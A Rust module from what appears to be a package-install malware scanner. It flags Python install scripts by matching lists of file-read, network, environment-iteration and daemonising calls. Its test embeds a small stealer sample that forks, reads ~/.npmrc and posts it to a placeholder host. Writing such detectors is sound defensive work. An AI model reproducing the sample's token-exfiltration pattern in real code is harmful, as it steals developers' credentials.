//! Capabilities of a Python file that runs at install (a `binding.gyp` action, a lifecycle
//! script's `python x.py`): a line-level reading of the standard library calls a stealer needs
//! — file reads, HTTP and socket sends, environment iteration, daemonising — so the credential
//! and environment rules can judge the file like JavaScript. Python is not parsed: each
//! non-comment line is searched for the call names below.

use crate::signal::{Kind, Signal};

/// Call names per capability (searched in each line, comments stripped).
const CALLS: &[(Kind, &[&str])] = &[
    (
        Kind::FsRead,
        &[
            "open(",
            ".read_text(",
            ".read_bytes(",
            "os.listdir(",
            "glob.glob(",
        ],
    ),
    (
        Kind::Network,
        &[
            "urlopen(",
            "urllib.request.Request(",
            "requests.post(",
            "requests.put(",
            "requests.get(",
            "requests.request(",
            "httpx.",
            "http.client.HTTP",
            "HTTPSConnection(",
            "HTTPConnection(",
            "socket.create_connection(",
            "smtplib.SMTP",
        ],
    ),
    (
        Kind::EnvIterate,
        &[
            "os.environ.items(",
            "os.environ.copy(",
            "os.environ.keys(",
            "dict(os.environ)",
            "in os.environ:",
        ],
    ),
    (Kind::OsInfo, &["socket.gethostname(", "getpass.getuser("]),
];

/// True when `path`/`text` is Python source (`.py`, or a `python` shebang).
pub(crate) fn is_python(path: &str, text: &str) -> bool {
    path.to_ascii_lowercase().ends_with(".py")
        || text
            .lines()
            .next()
            .is_some_and(|l| l.starts_with("#!") && l.contains("python"))
}

/// The capability signals of a Python text (module scope: function 0). A fork followed by
/// `setsid` (a daemon that outlives the build) is a [`Kind::DetachedSpawn`].
pub(crate) fn signals(text: &str) -> Vec<Signal> {
    let mut out = Vec::new();
    let mut fork = None;
    for (i, raw) in text.lines().enumerate() {
        let line = i as u32 + 1;
        let code = raw.split('#').next().unwrap_or("");
        for (kind, calls) in CALLS {
            if let Some(c) = calls.iter().find(|c| has_call(code, c)) {
                out.push(Signal {
                    kind: *kind,
                    line,
                    func: 0,
                    detail: format!("python {}", c.trim_end_matches('(')),
                });
            }
        }
        // String literals: credential store names, endpoints (whatever kind the file was
        // classified as, `.py` files are not JavaScript).
        for lit in literals(code) {
            crate::text::scan_literal(lit, line, 0, &mut out);
        }
        if code.contains("os.fork(") {
            fork = Some(line);
        }
        if let Some(at) = fork
            && code.contains("os.setsid(")
        {
            out.push(Signal {
                kind: Kind::DetachedSpawn,
                line: at,
                func: 0,
                detail: "python os.fork + os.setsid".into(),
            });
            fork = None;
        }
    }
    out
}

/// The contents of the `'…'` / `"…"` literals of one line (no escapes decoded).
fn literals(code: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = code;
    while let Some(i) = rest.find(['\'', '"']) {
        let q = &rest[i..i + 1];
        let after = &rest[i + 1..];
        match after.find(q) {
            Some(j) => {
                out.push(&after[..j]);
                rest = &after[j + 1..];
            }
            None => break,
        }
    }
    out
}

/// True when `code` holds `call` as a whole name (`open(` is not the end of `urlopen(`).
fn has_call(code: &str, call: &str) -> bool {
    code.match_indices(call).any(|(i, _)| {
        call.starts_with('.')
            || !code[..i]
                .chars()
                .next_back()
                .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '.')
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stealer_capabilities() {
        let py = "import os, urllib.request\n# open(never)\nif os.fork() == 0:\n    os.setsid()\n    for k, v in os.environ.items():\n        pass\n    with open(os.path.expanduser('~/.npmrc')) as fh:\n        d = fh.read()\n    urllib.request.urlopen(urllib.request.Request('http://x', data=d))\n";
        let mut got: Vec<(Kind, u32)> = signals(py).iter().map(|s| (s.kind, s.line)).collect();
        got.dedup();
        assert_eq!(
            got,
            vec![
                (Kind::DetachedSpawn, 3),
                (Kind::EnvIterate, 5),
                (Kind::FsRead, 7),
                (Kind::CredentialPath, 7),
                (Kind::Network, 9),
            ]
        );
        assert!(is_python("tools/gen.py", ""));
        assert!(is_python("bin/x", "#!/usr/bin/env python3\n"));
        assert!(!is_python("bin/x", "#!/bin/sh\n"));
    }

    /// A code generator writes a header: no capability of interest but the write.
    #[test]
    fn generator_is_quiet() {
        let py =
            "import sys\nwith open(sys.argv[1], 'w') as fh:\n    fh.write('#pragma once\\n')\n";
        let got: Vec<Kind> = signals(py).iter().map(|s| s.kind).collect();
        assert_eq!(got, vec![Kind::FsRead]);
    }
}
